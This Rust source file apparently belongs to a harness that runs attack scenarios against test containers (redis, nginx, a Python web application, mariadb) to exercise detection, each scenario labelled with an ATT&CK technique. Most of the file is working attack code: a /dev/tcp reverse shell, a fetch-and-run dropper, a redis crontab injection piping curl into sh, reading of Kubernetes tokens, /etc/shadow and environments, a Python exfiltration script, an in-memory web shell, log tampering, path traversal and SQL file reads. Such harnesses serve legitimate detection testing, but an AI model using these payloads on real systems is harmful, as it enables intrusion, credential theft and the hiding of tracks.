//! The scenarios: whom each attacks, how it gets in, what it does there.
//!
//! In: a [`Target`]. Out: what the attacker saw. Never: more than the sentence beside it says.

use super::{
    Ready, Scenario,
    attacker::{self, base64, http},
    target::TOKEN_TEXT,
};
use crate::servers::Nginx;
use anyhow::ensure;
use std::{thread, time::Duration};

/// Where programs are fetched from, where loot goes, where the shell calls home, the pool.
const FETCH: u16 = 4445;
const LOOT: u16 = 4446;
const SHELL: u16 = 4443;
const POOL: u16 = 3333;

const MODULE: &str = "redis module loaded from a shared directory";
const COMMANDS: &str = "redis commands";
const OPEN: &str = "command in a page's name (two-argument open in nginx's Perl handler)";
const REQUESTS: &str = "ordinary HTTP requests";
const EXEC: &str = "the runtime's exec, as by a stolen kubectl";
const PICKLE: &str = "pickle in a cookie of the Python application";
const FUNCTION: &str = "function library written by SELECT … INTO DUMPFILE";
const SQL: &str = "SQL with the application's password";

/// Fetches a program to /tmp and runs it.
macro_rules! dropped {
    ($run:literal) => {
        concat!(
            "exec 3<>/dev/tcp/127.0.0.1/4445; cat <&3 >/tmp/.cache; exec 3>&-\n",
            "chmod +x /tmp/.cache; /tmp/.cache ",
            $run,
            "; rm -f /tmp/.cache; true"
        )
    };
}

/// What somebody looks at first.
const LOOK_AROUND: &str = "id; uname -a; hostname 2>/dev/null; cat /etc/passwd; ls -la / /tmp
for p in /proc/[0-9]*; do tr '\\0' ' ' <$p/cmdline; echo; done 2>/dev/null; true";

/// What is worth taking in a pod.
const SECRETS: &str = "cat /var/run/secrets/kubernetes.io/serviceaccount/token; echo
for p in /proc/[0-9]*; do tr '\\0' '\\n' <$p/environ; done 2>/dev/null
ls -la /root /etc/ssl/private ~/.ssh ~/.aws 2>/dev/null; cat /etc/shadow 2>/dev/null | head -3; true";

/// Every port of the first thousand, as a shell without tools does it.
const SCAN: &str = "for ((p = 1; p <= 1000; p++)); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && echo open $p; done
(exec 3<>/dev/tcp/127.0.0.1/3306) 2>/dev/null && echo open 3306; echo scanned; true";

/// Nothing was here.
const TAMPER: &str = "cd /var/log/nginx; wc -l access.log; head -n 20 access.log >/tmp/.a; cat /tmp/.a >access.log
: >error.log; touch -d '3 days ago' access.log error.log; rm -f /tmp/.a; ls -l; unset HISTFILE; echo cleaned; true";

/// Python in the application: a page that runs commands, kept in memory only.
const WEB_SHELL: &str = "import __main__, os
__main__.PAGES['/status'] = lambda query: [os.popen(query.get('c', 'id')).read()]";

/// Python in the application: the table of users and the pod's token go out, without another process.
const EXFILTRATE: &str = "import __main__, socket, json, os
found = __main__.rows('SELECT * FROM users')
loot = json.dumps({'users': found, 'environment': dict(os.environ), 'etc': {}})
for name in sorted(os.listdir('/etc')):
    try: loot += open('/etc/' + name, errors='replace').read()
    except OSError: pass
loot += open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()
home = socket.create_connection(('127.0.0.1', 4446))
for i in range(0, len(loot), 1024): home.sendall(loot[i:i + 1024].encode())
home.close()";

/// All of them, server by server.
pub const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "reverse-shell",
        server: "redis",
        technique: "T1059.004",
        entry: MODULE,
        what: "a shell out of the server connects to the attacker, who looks around",
        services: &[(SHELL, Ready::Shell(&["id", "uname -a", "ls /plugins /tmp", "cat /etc/passwd", "exit"]))],
        act: |t| t.launch(&format!("exec bash -i >/dev/tcp/127.0.0.1/{SHELL} 0<&1 2>&1")).map(|()| String::new()),
        proof: "uid=0(root)",
    },
    Scenario {
        name: "secrets",
        server: "redis",
        technique: "T1552.007",
        entry: MODULE,
        what: "reads the service-account token, other processes' environments and keys",
        services: &[],
        act: |t| t.run(SECRETS),
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "miner",
        server: "redis",
        technique: "T1496",
        entry: MODULE,
        what: "fetches a stand-in for a coin miner, which hashes for 6 s and talks to a pool",
        services: &[(FETCH, Ready::Program("miner")), (POOL, Ready::Pool)],
        act: |t| t.run(dropped!("3333 6")),
        proof: "\"method\":\"submit\"",
    },
    Scenario {
        name: "cron-file",
        server: "redis",
        technique: "T1053.003",
        entry: COMMANDS,
        what: "makes the server save its data as a crontab (CONFIG SET dir), the commonest attack on open redis servers",
        services: &[],
        act: |t| {
            let job = "\n\n* * * * * root curl http://127.0.0.1:4445/x | sh\n\n";
            let set = format!("*3\r\n$3\r\nSET\r\n$1\r\nx\r\n${}\r\n{job}\r\n", job.len());
            let before = "CONFIG SET dir /etc\r\nCONFIG SET dbfilename crontab\r\nSAVE\r\nCONFIG GET dir";
            let after = "CONFIG SET dir /tmp\r\nCONFIG SET dbfilename dump.rdb\r\nDEL x\r\nQUIT";
            let mut answer = String::new();
            // A snapshot of the server's own may be under way: then it refuses, and is asked again.
            for _ in 0..5 {
                answer = attacker::ask(&t.network, 6379, format!("{set}{before}\r\n{after}\r\n").as_bytes())?;
                if !answer.contains("-ERR") {
                    break;
                }
            }
            ensure!(!answer.contains("-ERR"), "the server refused: {answer}");
            Ok(answer)
        },
        proof: "\r\n/etc\r\n",
    },
    Scenario {
        name: "shell",
        server: "nginx",
        technique: "T1190",
        entry: OPEN,
        what: "a shell out of a worker looks around",
        services: &[],
        act: |t| t.run(LOOK_AROUND),
        proof: "uid=33(www-data)",
    },
    Scenario {
        name: "path-traversal",
        server: "nginx",
        technique: "T1552.001",
        entry: "file in a page's name (../../…)",
        what: "a worker itself reads the service-account token and 60 other files; no process starts",
        services: &[],
        act: |t| {
            let files = ["etc/passwd", "etc/shadow", "proc/self/environ", "proc/self/maps", "root/.bash_history", "srv/htpasswd"];
            for file in files.iter().cycle().take(60) {
                t.get(&format!("/page?name=..%2F..%2F{file}"), "")?;
            }
            t.get("/page?name=..%2F..%2Fvar/run/secrets/kubernetes.io/serviceaccount/token", "")
        },
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "flood",
        server: "nginx",
        technique: "T1498.001",
        entry: OPEN,
        what: "fetches a flooder: 20,000 datagrams and 500 connections, to loopback",
        services: &[(FETCH, Ready::Program("flood"))],
        act: |t| t.run(dropped!("20000 500")),
        proof: "flooded with many",
    },
    Scenario {
        name: "log-tampering",
        server: "nginx",
        technique: "T1070.002",
        entry: OPEN,
        what: "cuts the server's logs and sets their times back",
        services: &[],
        act: |t| t.run(TAMPER),
        proof: "cleaned",
    },
    Scenario {
        name: "brute-force",
        server: "nginx",
        technique: "T1110.001",
        entry: REQUESTS,
        what: "tries 400 passwords of the staff's area, each on a connection of its own",
        services: &[],
        act: |t| {
            for n in 0..400 {
                let password = base64(format!("staff:password{n}").as_bytes());
                let answer = t.get("/admin/orders.html", &format!("Authorization: Basic {password}\r\n"))?;
                ensure!(answer.contains("401 Unauthorized"), "the server let a wrong password in: {answer}");
            }
            Ok("400 refused".to_owned())
        },
        proof: "400 refused",
    },
    Scenario {
        name: "crash-loop",
        server: "nginx",
        technique: "T1499.004",
        entry: REQUESTS,
        what: "eight carts with a pointer into nowhere, at which a worker crashes, and is started again",
        services: &[],
        act: |t| {
            let mut crashes = 0;
            for _ in 0..8 {
                let answer = http(&t.network, Nginx::PORT, "POST", "/cart?format=p", "", "AAAAAAAA");
                crashes += u32::from(answer.is_ok_and(|text| text.is_empty()));
                thread::sleep(Duration::from_millis(300));
            }
            Ok(format!("{crashes} crashes"))
        },
        proof: "8 crashes",
    },
    Scenario {
        name: "exec",
        server: "nginx",
        technique: "T1609",
        entry: EXEC,
        what: "runs a shell in the container that reads the service-account token",
        services: &[],
        act: |t| {
            let out = t.server.exec(&["bash", "-c", &format!("{LOOK_AROUND}\n{SECRETS}")])?;
            Ok(String::from_utf8_lossy(&out.stdout).into_owned())
        },
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "web-shell",
        server: "webapp",
        technique: "T1505.003",
        entry: PICKLE,
        what: "adds a page to the running application that runs commands, and uses it six times",
        services: &[],
        act: |t| {
            t.python(WEB_SHELL)?;
            let mut seen = String::new();
            for command in ["id", "uname -a", "ls -la /app", "cat /etc/passwd", "env", "cat /proc/1/cmdline"] {
                seen += &t.get(&format!("/status?c={}", attacker::urlencode(command)), "")?;
                thread::sleep(Duration::from_millis(300));
            }
            Ok(seen)
        },
        proof: "uid=0(root)",
    },
    Scenario {
        name: "dropped-binary",
        server: "webapp",
        technique: "T1105",
        entry: PICKLE,
        what: "fetches a program that deletes its own file, goes to the background and calls home four times",
        services: &[(FETCH, Ready::Program("implant")), (LOOT, Ready::Sink)],
        act: |t| t.run(dropped!("4446")),
        proof: "implant on",
    },
    Scenario {
        name: "network-scan",
        server: "webapp",
        technique: "T1046",
        entry: PICKLE,
        what: "a shell tries a thousand ports of loopback",
        services: &[],
        act: |t| t.run(SCAN),
        proof: "open 3306",
    },
    Scenario {
        name: "exfiltration",
        server: "webapp",
        technique: "T1041",
        entry: PICKLE,
        what: "the application itself reads the users' table, /etc and the token, and sends them out; no process starts",
        services: &[(LOOT, Ready::Sink)],
        act: |t| t.python(EXFILTRATE),
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "function-shell",
        server: "mariadb",
        technique: "T1059.004",
        entry: FUNCTION,
        what: "a function of the attacker's in the server starts a shell that looks around",
        services: &[],
        act: |t| t.run(LOOK_AROUND),
        proof: "uid=100(mysql)",
    },
    Scenario {
        name: "kernel-exploit",
        server: "mariadb",
        technique: "T1068",
        entry: FUNCTION,
        what: "fetches a program with the calls that kernel exploits begin with: unshare, bpf, userfaultfd, ptrace, io_uring, …",
        services: &[(FETCH, Ready::Program("sprinkle"))],
        act: |t| t.run(dropped!("")),
        proof: "userfaultfd:",
    },
    Scenario {
        name: "files-by-sql",
        server: "mariadb",
        technique: "T1005",
        entry: SQL,
        what: "the server itself reads the token with LOAD_FILE and writes the users' table to a file; no process starts",
        services: &[],
        act: |t| {
            let file = "/var/run/secrets/kubernetes.io/serviceaccount/token";
            t.sql(&format!(
                "SELECT LOAD_FILE('{file}'); SELECT LOAD_FILE('/etc/passwd'); SELECT LOAD_FILE('/proc/self/environ');
                 SELECT * FROM shop.users INTO OUTFILE '/tmp/users-{}'; SELECT * FROM mysql.global_priv",
                t.server.pid()
            ))
        },
        proof: TOKEN_TEXT,
    },
];
